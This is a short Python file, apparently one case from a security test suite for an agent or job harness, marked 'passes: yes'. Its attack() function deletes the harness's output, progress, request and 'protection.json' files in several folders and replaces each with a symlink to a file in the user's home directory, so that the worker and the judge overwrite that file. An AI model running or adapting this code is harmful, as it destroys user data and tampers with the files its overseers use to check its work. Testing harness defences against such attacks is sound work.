# what: put links to the user's files in place of all that the worker and the judge write
# passes: yes

import os
import pathlib


def attack():
    job = pathlib.Path.cwd().parent
    for folder in (job, job.parent, pathlib.Path(WORKER_FOLDER)):
        for name in (
            "done",
            "done.part",
            f".done.{os.getppid()}.part",
            ".done.1.part",
            "reply",
            "progress",
            "protection.json",
            "request",
        ):
            try:
                (folder / name).unlink(missing_ok=True)
                (folder / name).symlink_to(f"{HOME}/letter.txt")
            except OSError:
                pass
    return True
